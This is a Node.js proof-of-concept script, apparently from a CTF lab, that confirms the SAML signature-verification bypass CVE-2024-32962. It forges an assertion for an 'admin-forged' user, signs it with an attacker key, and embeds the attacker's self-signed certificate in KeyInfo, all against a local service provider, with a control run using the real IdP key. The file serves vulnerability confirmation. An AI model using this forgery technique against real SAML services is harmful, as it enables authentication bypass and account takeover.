// node confirm.js (env MNCTF_LAB_INSTALL, RELEASE_DIR)
// CVE-2024-32962 / GHSA-2xp3-57p7-qf4v: an assertion signed with the attacker's own key, the attacker's
// self-signed certificate in ds:KeyInfo; the SP configured publicCert = the IdP certificate.
'use strict';
const path = require('path');
const g = require('./genlib');
const { makeSp } = require(path.join(process.env.RELEASE_DIR, 'sp.js'));
const port = 27002;
const idp = g.mkKeys('confirm-idp');
const attacker = g.mkKeys('confirm-idp'); // same subject, different key
const idpEntity = 'http://127.0.0.1:18999/idp';
const idpMetadata = `<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" xmlns:ds="http://www.w3.org/2000/09/xmldsig#" entityID="${idpEntity}"><md:IDPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol"><md:KeyDescriptor use="signing"><ds:KeyInfo><ds:X509Data><ds:X509Certificate>${idp.certB64}</ds:X509Certificate></ds:X509Data></ds:KeyInfo></md:KeyDescriptor><md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect" Location="http://127.0.0.1:18999/sso"/></md:IDPSSODescriptor></md:EntityDescriptor>`;
const spKeys = g.mkKeys('confirm-sp');
const sp = makeSp({ port, idpMetadata, spKey: spKeys.key, spCert: spKeys.certPem, authnClass: 'urn:mnctf:ac:classes:jpki-user-authentication' });
const base = `http://127.0.0.1:${port}`;
(async () => {
  const results = {};
  for (const [label, who] of [['control (IdP key, IdP cert in KeyInfo)', 'idp'], ['attack (attacker key, attacker cert in KeyInfo)', 'attacker']]) {
    const irt = g.requestIdFromUrl(await sp.authorizeUrl());
    const aId = g.rid();
    const k = who === 'idp' ? idp : attacker;
    const nameID = who === 'idp' ? 'alice' : 'admin-forged';
    const xml = g.responseXml({ rId: g.rid(), idpEntity, acs: `${base}/acs`, irt,
      inner: g.assertionXml({ aId, idpEntity, nameID, acs: `${base}/acs`, audience: `${base}/metadata`, irt }) });
    const signed = g.sign(xml, aId, { key: k.key, certB64: k.certB64 });
    try {
      const { profile, nameID: n } = await sp.validate(Buffer.from(signed).toString('base64'));
      const got = profile ? profile.nameID : n;
      console.log(`  ${label}: ACCEPTED, NameID=${got}`);
      results[who] = got;
    } catch (e) {
      console.log(`  ${label}: refused: ${e.message.slice(0, 160)}`);
      results[who] = null;
    }
  }
  if (results.idp !== 'alice') { console.log('  control refused: the result says nothing'); process.exit(2); }
  process.exit(results.attacker === 'admin-forged' ? 0 : 1);
})();
